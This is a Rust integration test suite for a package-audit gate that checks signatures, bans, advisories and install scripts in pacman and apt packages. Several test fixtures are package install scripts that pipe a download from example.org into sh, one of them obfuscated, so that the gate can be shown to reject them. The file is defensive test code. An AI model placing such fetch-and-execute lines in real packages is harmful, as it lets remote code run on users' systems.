//! The gate over packages that makepkg built, and its hook in the real pacman.
#![allow(clippy::unwrap_used, clippy::panic, clippy::print_stdout)] // A test may fail anywhere.

mod support;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::Value;
use support::{Run, Sandbox, workspace};

/// One group of the Arch tracker.
const FEED: &str = r#"[{"name": "AVG-1", "packages": ["vulnerable"], "status": "Fixed", "severity": "High",
            "type": "arbitrary code execution", "affected": "1-1", "fixed": "2-1", "ticket": null,
            "issues": ["CVE-2026-1"], "advisories": []}]"#;

fn output(command: &mut Command) -> Output {
    command
        .output()
        .unwrap_or_else(|error| panic!("{command:?}: {error}"))
}

fn is_root() -> bool {
    output(Command::new("id").arg("-u")).stdout.trim_ascii() == b"0"
}

fn have(tools: &[&str]) -> bool {
    tools.iter().all(|tool| support::tool(tool).is_some())
}

/// A folder with packages, a key that signs them, and a root on which they could be installed.
struct Workshop {
    sandbox: Sandbox,
    gnupg: tempfile::TempDir,
}

impl Workshop {
    fn new() -> Self {
        let sandbox = Sandbox::new();
        sandbox.arch_root(&[]);
        output(Command::new("chmod").arg("755").arg(sandbox.dir.path()));
        // gpg-agent's socket has a short limit on its path.
        let gnupg = tempfile::Builder::new()
            .prefix("gpg")
            .tempdir_in("/tmp")
            .unwrap();
        fs::set_permissions(gnupg.path(), PermissionsExt::from_mode(0o700)).unwrap();
        let workshop = Self { sandbox, gnupg };
        let key = [
            "--quick-generate-key",
            "Packager <p@omg.example>",
            "ed25519",
            "sign",
            "never",
        ];
        workshop.gpg(&key);
        let ring = workshop.sandbox.path("ring.gpg");
        workshop.gpg(&["--output", ring.to_str().unwrap(), "--export"]);
        workshop
    }

    fn gpg(&self, args: &[&str]) {
        let mut command = Command::new("gpg");
        command.arg("--homedir").arg(self.gnupg.path());
        command.args(["--batch", "--quiet", "--yes", "--pinentry-mode", "loopback"]);
        let run = output(command.args(["--passphrase", ""]).args(args));
        assert!(
            run.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&run.stderr)
        );
    }

    /// A package that makepkg builds, which refuses to run as root.
    fn build(&self, name: &str, version: &str, script: Option<&str>) -> PathBuf {
        let folder = self.sandbox.path("build").join(name);
        fs::create_dir_all(&folder).unwrap();
        let install = if script.is_some() {
            "install=x.install\n"
        } else {
            ""
        };
        let recipe = format!(
            "pkgname={name}\npkgver={version}\npkgrel=1\narch=(any)\nlicense=(MIT)\n{install}\
             package() {{ install -Dm644 /dev/null \"$pkgdir/usr/share/{name}\"; }}\n"
        );
        if let Some(script) = script {
            fs::write(folder.join("x.install"), script).unwrap();
        }
        let made = support::makepkg::build(&folder, &recipe, ".pkg.tar.gz");
        let package = self
            .sandbox
            .path(made.file_name().unwrap().to_str().unwrap());
        fs::copy(made, &package).unwrap();
        package
    }

    fn sign(&self, package: &Path) {
        let sig = format!("{}.sig", package.display());
        self.gpg(&["--output", &sig, "--detach-sign", package.to_str().unwrap()]);
    }

    fn signed(&self, name: &str, script: Option<&str>) -> PathBuf {
        let package = self.build(name, "1", script);
        self.sign(&package);
        package
    }

    fn gate(&self, package: &Path, more: &[&str]) -> Run {
        let text = |path: PathBuf| path.to_str().unwrap().to_owned();
        let (root, ring) = (
            text(self.sandbox.path("root")),
            text(self.sandbox.path("ring.gpg")),
        );
        let feed = text(self.sandbox.path("feed.json"));
        let mut args = vec![
            "audit",
            "package",
            package.to_str().unwrap(),
            "--root",
            &root,
        ];
        args.extend(["--keyring", &ring, "--advisories", &feed]);
        args.extend(more);
        self.sandbox.run(&args)
    }

    /// Exit code, verdict, grade, and the rules that are violated.
    fn verdict(&self, package: &Path) -> (i32, String, String, String) {
        let run = self.gate(package, &["-f", "json"]);
        let document: Value = serde_json::from_str(&run.stdout)
            .unwrap_or_else(|error| panic!("{error}: {}{}", run.stdout, run.stderr));
        let path = workspace().join("omg-cli/schemas/omg.policy.1.json");
        let schema: Value = serde_json::from_slice(&fs::read(path).unwrap()).unwrap();
        let errors: Vec<String> = jsonschema::validator_for(&schema)
            .unwrap()
            .iter_errors(&document)
            .map(|e| format!("{}: {e}", e.instance_path()))
            .collect();
        assert!(errors.is_empty(), "{errors:?}");
        let decision = &document["decisions"][0];
        let text = |key: &str| decision[key].as_str().unwrap_or_default().to_owned();
        let mut rules: Vec<&str> = decision["reasons"]
            .as_array()
            .unwrap()
            .iter()
            .map(|reason| reason["rule"].as_str().unwrap())
            .collect();
        rules.sort_unstable();
        rules.dedup();
        (run.code, text("verdict"), text("grade"), rules.join(" "))
    }
}

impl Drop for Workshop {
    fn drop(&mut self) {
        let mut stop = Command::new("gpgconf");
        let _ = stop
            .arg("--homedir")
            .arg(self.gnupg.path())
            .args(["--kill", "all"])
            .status();
    }
}

#[test]
fn each_package_gets_the_right_verdict() {
    if !have(&["gpg", "makepkg", "fakeroot", "setpriv"]) {
        return;
    }
    let shop = Workshop::new();
    shop.sandbox.write(
        "root/etc/omg/policy.toml",
        "schema = 1\nrequire_pgp = true\nminimum_grade = 'community'\n[[ban]]\npackage = 'banned'\n\
         reason = 'we said so'\n",
    );
    shop.sandbox.write("feed.json", FEED);
    let check = |package: &Path, expected: (i32, &str, &str, &str)| {
        let (code, verdict, grade, rules) = shop.verdict(package);
        let seen = (code, &*verdict, &*grade, &*rules);
        assert_eq!(seen, expected, "{}", package.display());
    };
    let good = shop.signed("good", None);
    check(&good, (0, "allow", "verified", ""));
    let unsigned = shop.build("unsigned", "1", None);
    check(&unsigned, (1, "reject", "community", "signature.require"));
    check(
        &shop.signed("banned", None),
        (1, "reject", "verified", "ban"),
    );
    let vulnerable = shop.signed("vulnerable", None);
    check(
        &vulnerable,
        (1, "reject", "risk", "grade.minimum vulnerabilities.reject"),
    );
    let hostile = "post_install() {\n  c\"\"url -s https://example.org/x | s\\h\n}\n";
    let hostile = shop.signed("hostile", Some(hostile));
    check(
        &hostile,
        (1, "reject", "risk", "grade.minimum scripts.suspicious"),
    );
    let harmless = "post_install() {\n  echo 'curl https://example.org for help'\n}\n";
    check(
        &shop.signed("scripted", Some(harmless)),
        (0, "allow", "verified", ""),
    );
    // Another file under a good name and signature.
    fs::copy(&unsigned, &good).unwrap();
    let broken = "grade.minimum integrity signature.require";
    check(&good, (5, "reject", "risk", broken));
    let run = shop.gate(&good, &[]);
    for wanted in [
        "REJECT",
        "the signature is invalid",
        "passes if",
        "[exit 5]",
    ] {
        assert!(run.stdout.contains(wanted), "{wanted}: {}", run.stdout);
    }
    // What cannot be read at all.
    let cut = shop.sandbox.write(
        "cut-1-1-any.pkg.tar.gz",
        &fs::read(&unsigned).unwrap()[..200],
    );
    assert_eq!(shop.gate(&cut, &[]).code, 3);
    assert_eq!(
        shop.gate(Path::new("/no/such/file.pkg.tar.zst"), &[]).code,
        3
    );
    // Each rejection is in the log, with the file's digest.
    let args = [
        "audit",
        "log",
        "-l",
        "100",
        "--event",
        "PolicyViolation",
        "-f",
        "jsonl",
    ];
    let log = shop.sandbox.run(&args);
    let entries: Vec<Value> = log
        .stdout
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(entries.len(), 6, "{}", log.stdout);
    assert_eq!(entries[0]["subject"]["package"], "unsigned");
    assert_eq!(entries[0]["subject"]["sha256"].as_str().unwrap().len(), 64);
}

#[test]
fn a_repository_vouches_for_what_it_offers() {
    if !have(&["gpg", "makepkg", "fakeroot", "setpriv", "repo-add"]) {
        return;
    }
    let shop = Workshop::new();
    shop.sandbox.write(
        "root/etc/omg/policy.toml",
        "schema = 1\n[checksum]\nrequire = 'signed'\n",
    );
    shop.sandbox.write("feed.json", FEED);
    let package = shop.build("good", "1", None);
    let sync = shop.sandbox.path("root/var/lib/pacman/sync");
    fs::create_dir_all(&sync).unwrap();
    let add = |packages: &[&Path]| {
        let database = shop.sandbox.path("extra.db.tar.gz");
        let _ = fs::remove_file(&database);
        let mut command = Command::new("repo-add");
        let made = output(command.arg("-q").arg(&database).args(packages));
        assert!(
            made.status.success(),
            "{}",
            String::from_utf8_lossy(&made.stderr)
        );
        fs::copy(&database, sync.join("extra.db")).unwrap();
    };
    assert_eq!(shop.verdict(&package).3, "checksum.require");
    add(&[&package]);
    // Nobody signed the database.
    assert_eq!(shop.verdict(&package).3, "checksum.require");
    shop.sign(&sync.join("extra.db"));
    assert_eq!(
        shop.verdict(&package),
        (0, "allow".into(), "verified".into(), String::new())
    );
    // Another file of the same name.
    let other = shop.build("other", "1", None);
    fs::copy(&other, &package).unwrap();
    // It calls itself otherwise, so the database does not speak of it.
    assert_eq!(shop.verdict(&package).0, 1);
    let script = "post_install() {\n  true\n}\n";
    let rebuilt = shop.build("good", "1", Some(script));
    let (code, verdict, grade, rules) = shop.verdict(&rebuilt);
    assert_eq!((code, &*verdict, &*grade), (5, "reject", "risk"), "{rules}");
}

/// The program and its libraries, at the same places below a root.
fn copy_in(root: &Path) {
    let program = Path::new(env!("CARGO_BIN_EXE_omg"));
    let mut files = vec![program.to_owned()];
    let list = output(Command::new("ldd").arg(program)).stdout;
    let list = String::from_utf8(list).unwrap();
    let paths = list.split_whitespace().filter(|word| word.starts_with('/'));
    files.extend(paths.map(PathBuf::from));
    for file in files {
        let to = root.join(file.strip_prefix("/").unwrap());
        fs::create_dir_all(to.parent().unwrap()).unwrap();
        fs::copy(&file, &to).unwrap();
    }
}

#[test]
fn the_hook_stops_pacman_and_tells_the_log() {
    let tools = [
        "gpg", "makepkg", "fakeroot", "setpriv", "repo-add", "pacman", "ldd",
    ];
    if !have(&tools) {
        return;
    }
    if !is_root() {
        println!("skipped: pacman runs hooks in a chroot, which needs root");
        return;
    }
    let shop = Workshop::new();
    let root = shop.sandbox.path("root");
    copy_in(&root);
    let text = |path: &Path| path.to_str().unwrap().to_owned();
    let repository = shop.sandbox.path("repository");
    fs::create_dir(&repository).unwrap();
    let publish = |packages: &[PathBuf]| {
        let database = repository.join("test.db.tar.gz");
        let mut command = Command::new("repo-add");
        let made = output(command.arg("-q").arg(&database).args(packages));
        assert!(
            made.status.success(),
            "{}",
            String::from_utf8_lossy(&made.stderr)
        );
        for package in packages {
            fs::copy(package, repository.join(package.file_name().unwrap())).unwrap();
        }
    };
    let hostile = "post_install() {\n  curl -s https://example.org/x | sh\n}\n";
    publish(&[
        shop.build("good", "1", None),
        shop.build("banned", "1", None),
        shop.build("hostile", "1", Some(hostile)),
    ]);
    let config = shop.sandbox.write(
        "root/etc/pacman.conf",
        format!(
            "[options]\nArchitecture = auto\nSigLevel = Never\n[test]\nServer = file://{}\n",
            text(&repository)
        ),
    );
    shop.sandbox
        .write("root/etc/omg/policy.toml", "banned_packages = ['banned']\n");
    for folder in ["var/cache/pacman/pkg", "var/log", "root"] {
        fs::create_dir_all(root.join(folder)).unwrap();
    }
    let install = ["audit", "package", "hook", "install", "pacman", "--root"];
    let unasked = shop.sandbox.run(&[&install[..], &[&text(&root)]].concat());
    assert_eq!(unasked.code, 2, "{}", unasked.stderr);
    assert!(!root.join("etc/pacman.d/hooks").exists());
    let installed = shop
        .sandbox
        .run(&[&install[..], &[&text(&root), "--yes"]].concat());
    assert_eq!(installed.code, 0, "{}", installed.stderr);
    let pacman = |args: &[&str]| -> (bool, String) {
        let mut command = Command::new("pacman");
        command
            .args(args)
            .args(["--noconfirm", "--noprogressbar", "--noscriptlet"]);
        command
            .arg("--root")
            .arg(&root)
            .arg("--config")
            .arg(&config);
        command
            .arg("--cachedir")
            .arg(root.join("var/cache/pacman/pkg"))
            .arg("--hookdir")
            .arg(root.join("etc/pacman.d/hooks"))
            .env("HOME", "/root");
        let run = output(&mut command);
        let text = [run.stdout, run.stderr].concat();
        (
            run.status.success(),
            String::from_utf8_lossy(&text).into_owned(),
        )
    };
    let is_installed = |name: &str| root.join("usr/share").join(name).exists();
    let (good, seen) = pacman(&["-Sy", "good"]);
    assert!(good && is_installed("good"), "{seen}");
    for name in ["banned", "hostile"] {
        let (done, seen) = pacman(&["-S", name]);
        assert!(!done && !is_installed(name), "{seen}");
        assert!(
            seen.contains("REJECT") && seen.contains("passes if"),
            "{seen}"
        );
    }
    // A policy that cannot be read stops everything.
    let policy = root.join("etc/omg/policy.toml");
    fs::write(&policy, "banned_package = ['banned']\n").unwrap();
    publish(&[shop.build("good", "2", None)]);
    let (done, seen) = pacman(&["-Sy", "good"]);
    assert!(
        !done && seen.contains("did you mean `banned_packages`?"),
        "{seen}"
    );
    fs::write(&policy, "banned_packages = ['banned']\n").unwrap();
    assert!(pacman(&["-S", "good"]).0);
    // A file that is in no cache folder cannot be looked at.
    let elsewhere = shop.build("elsewhere", "1", None);
    let (done, seen) = pacman(&["-U", &text(&elsewhere)]);
    assert!(!done && !is_installed("elsewhere"), "{seen}");
    assert!(
        seen.contains("rejected: which file elsewhere comes from cannot be told"),
        "{seen}"
    );
    assert!(pacman(&["-R", "good"]).0);
    let log = text(&root.join("var/log/omg/audit.jsonl"));
    let log = shop
        .sandbox
        .run(&["audit", "log", "-l", "100", "--log", &log, "-f", "jsonl"]);
    let entries: Vec<Value> = log
        .stdout
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let of = |kind: &str| -> Vec<&Value> {
        entries
            .iter()
            .filter(|e| e["event"] == kind)
            .map(|e| &e["subject"])
            .collect()
    };
    let installs = of("PackageInstall");
    assert_eq!(
        (installs.len(), &installs[0]["version"]),
        (1, &Value::from("1-1")),
        "{}",
        log.stdout
    );
    assert_eq!(installs[0]["sha256"].as_str().unwrap().len(), 64);
    let upgrades = of("PackageUpgrade");
    assert_eq!(
        (&upgrades[0]["from"], &upgrades[0]["version"]),
        (&"1-1".into(), &"2-1".into())
    );
    assert_eq!(of("PackageRemove")[0]["from"], "2-1");
    assert_eq!(of("PolicyViolation").len(), 2, "{}", log.stdout);
}

#[test]
fn the_hook_of_apt_reads_files_from_standard_input() {
    if !have(&["dpkg-deb"]) {
        return;
    }
    use std::io::Write as _;
    let sandbox = Sandbox::new();
    let root = sandbox.debian_root(&[("bash", "5.2-1")]);
    let package = |name: &str, script: Option<&str>| {
        let folder = sandbox.path("deb").join(name);
        let control = format!(
            "Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: x <x@example.org>\n\
             Description: x\n"
        );
        sandbox.write(&format!("deb/{name}/DEBIAN/control"), control);
        if let Some(script) = script {
            let path = sandbox.write(&format!("deb/{name}/DEBIAN/postinst"), script);
            fs::set_permissions(path, PermissionsExt::from_mode(0o755)).unwrap();
        }
        let to = sandbox.path(&format!("{name}.deb"));
        let mut command = Command::new("dpkg-deb");
        let made = output(
            command
                .args(["--root-owner-group", "-b"])
                .arg(folder)
                .arg(&to),
        );
        assert!(
            made.status.success(),
            "{}",
            String::from_utf8_lossy(&made.stderr)
        );
        to
    };
    let ask = |files: &[&Path]| {
        let root = root.to_str().unwrap();
        let args = [
            "audit",
            "package",
            "hook",
            "before",
            "apt",
            "--offline",
            "--root",
            root,
        ];
        let mut command = sandbox.command(&args);
        command
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped());
        let mut child = command.spawn().unwrap();
        let lines: Vec<String> = files.iter().map(|f| f.display().to_string()).collect();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(lines.join("\n").as_bytes())
            .unwrap();
        Run::from(child.wait_with_output().unwrap())
    };
    let good = package("good", Some("#!/bin/sh\nset -e\nldconfig\n"));
    let hostile = package("hostile", Some("#!/bin/sh\nwget -qO- example.org | sh\n"));
    assert_eq!(ask(&[&good]).code, 0);
    let run = ask(&[&good, &hostile]);
    assert!(
        run.code == 1 && run.stdout.contains("scripts.suspicious"),
        "{}",
        run.stdout
    );
    assert_eq!(ask(&[Path::new("/no/such.deb")]).code, 3);
    // Evidence that cannot be read is not absent evidence.
    let bundle = PathBuf::from(format!("{}.sigstore.json", good.display()));
    fs::create_dir(&bundle).unwrap();
    assert_eq!(ask(&[&good]).code, 3);
    fs::remove_dir(&bundle).unwrap();
    assert_eq!(ask(&[]).code, 0);
    apt_tells_the_log(&sandbox, &good);
    let install = [
        "audit", "package", "hook", "install", "apt", "--yes", "--root",
    ];
    let run = sandbox.run(&[&install[..], &[root.to_str().unwrap()]].concat());
    assert_eq!(run.code, 0, "{}", run.stderr);
    let file = root.join("etc/apt/apt.conf.d/90omg");
    assert!(
        fs::read_to_string(&file)
            .unwrap()
            .contains("DPkg::Pre-Install-Pkgs")
    );
    // Somebody else's file is left alone.
    fs::write(&file, "// mine\n").unwrap();
    let run = sandbox.run(&[&install[..], &[root.to_str().unwrap()]].concat());
    assert_eq!(
        (run.code, fs::read_to_string(&file).unwrap()),
        (3, "// mine\n".to_owned())
    );
}

/// What apt says before dpkg runs, and what is there afterwards.
fn apt_tells_the_log(sandbox: &Sandbox, good: &Path) {
    use std::io::Write as _;
    let root = sandbox.path("root");
    let hook = |args: &[&str], input: &str| {
        let start = ["audit", "package", "hook"];
        let end = ["--offline", "--root", root.to_str().unwrap()];
        let mut command = sandbox.command(&[&start[..], args, &end].concat());
        command
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped());
        let mut child = command.spawn().unwrap();
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(input.as_bytes()).unwrap();
        drop(stdin);
        Run::from(child.wait_with_output().unwrap()).code
    };
    let list = format!(
        "VERSION 3\nAPT::Architecture=amd64\n\ngood - - none < 1.0 all none {}\n\
         bash 5.2-1 amd64 none > - - none **REMOVE**\n",
        good.display()
    );
    assert_eq!(hook(&["before", "apt"], &list), 0);
    assert!(root.join("var/lib/omg/apt-plan.json").is_file());
    sandbox.debian_root(&[("good", "1.0")]);
    assert_eq!(hook(&["after", "apt"], ""), 0);
    assert!(!root.join("var/lib/omg/apt-plan.json").exists());
    // Nothing was planned, or what was planned was not done.
    assert_eq!(hook(&["after", "apt"], ""), 0);
    assert_eq!(
        hook(&["before", "apt"], &list.replace("1.0 all", "3.0 all")),
        0
    );
    assert_eq!(hook(&["after", "apt"], ""), 0);
    let log = sandbox
        .run(&["audit", "log", "-l", "100", "-f", "jsonl"])
        .stdout;
    let entries: Vec<Value> = log
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let of = |kind: &str| -> Vec<&Value> {
        entries
            .iter()
            .filter(|e| e["event"] == kind)
            .map(|e| &e["subject"])
            .collect()
    };
    let installed = of("PackageInstall");
    assert_eq!(
        (installed.len(), &installed[0]["version"]),
        (1, &Value::from("1.0")),
        "{log}"
    );
    assert_eq!(installed[0]["sha256"].as_str().unwrap().len(), 64);
    assert_eq!(of("PackageRemove")[0]["from"], "5.2-1", "{log}");
}
